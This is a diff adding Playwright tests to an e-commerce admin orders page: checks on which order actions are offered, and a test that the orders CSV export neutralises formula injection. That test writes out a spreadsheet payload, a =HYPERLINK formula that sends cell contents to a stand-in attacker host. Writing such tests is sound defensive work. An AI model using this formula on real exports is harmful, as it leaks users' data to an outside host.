@@ -1,3 +1,4 @@
+import { readFile } from 'node:fs/promises';
 import { expect, test } from '@playwright/test';
 import { seriousA11yViolations } from './support/axe';
 import { blockThirdParty, createUser, placeOrder, signInAsAdmin } from './support/admin';
@@ -60,6 +61,50 @@ test('cancelling an order asks first, then cancels it', async ({ page }) => {
   await page.getByRole('button', { name: 'Confirm' }).click();
   await expect(page.getByText(`Order ${order.order_number} cancelled!`)).toBeVisible();
   await expect(row.getByText('Cancelled')).toBeVisible();
+});
+
+test('the order actions offer only what the database allows: no Cancel once shipped, no Ship before an online payment', async ({
+  page,
+}) => {
+  const shopper = await createUser();
+  const cod = await placeOrder(shopper);
+  const online = await placeOrder(shopper, { method: 'razorpay' });
+  await signInAsAdmin(page, await createUser('admin'));
+  await page.goto('/admin/orders');
+
+  await page.getByPlaceholder('Order number').fill(cod.order_number);
+  const codRow = page.locator('tbody tr', { hasText: cod.order_number });
+  await expect(codRow.getByRole('button', { name: 'Cancel' })).toBeVisible();
+  await codRow.getByRole('button', { name: 'Ship' }).click();
+  await expect(page.getByText(`Order ${cod.order_number} shipped!`)).toBeVisible();
+  await expect(codRow.getByRole('button', { name: 'Mark Delivered' })).toBeVisible();
+  await expect(codRow.getByRole('button')).toHaveText(['Mark Delivered']);
+
+  await page.getByPlaceholder('Order number').fill(online.order_number);
+  const onlineRow = page.locator('tbody tr', { hasText: online.order_number });
+  await expect(onlineRow.getByRole('button', { name: 'Cancel' })).toBeVisible();
+  await expect(onlineRow.getByRole('button')).toHaveText(['Cancel']);
+  await onlineRow.locator('td').first().click();
+  await expect(page.getByRole('heading', { name: `Order ${online.order_number}` })).toBeVisible();
+  await expect(page.getByRole('button', { name: 'Cancel' })).toBeVisible();
+  await expect(page.getByRole('button', { name: 'Ship' })).toHaveCount(0);
+});
+
+test("the orders export neutralises a customer's formula (CSV injection)", async ({ page }) => {
+  const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
+  const order = await placeOrder(await createUser(), { fullName: formula });
+  await signInAsAdmin(page, await createUser('admin'));
+  await page.goto('/admin/orders');
+  await page.getByPlaceholder('Order number').fill(order.order_number);
+  await expect(page.locator('tbody tr')).toHaveCount(1);
+  await expect(page.locator('tbody tr', { hasText: order.order_number })).toBeVisible();
+  const download = page.waitForEvent('download');
+  await page.getByRole('button', { name: 'Export' }).click();
+  const csv = await readFile(await (await download).path(), 'utf8');
+  const line = csv.split('\n').find((l) => l.includes(order.order_number))!;
+  // jsonexport quotes the cell and doubles its quotes; the cell starts with the single quote.
+  expect(line).toContain(`"'${formula.replaceAll('"', '""')}"`);
+  expect(line).not.toMatch(/(^|,)"?=HYPERLINK/);
 });
 
 test('categories, promo codes, contact messages and customers open with their lists', async ({ page }) => {
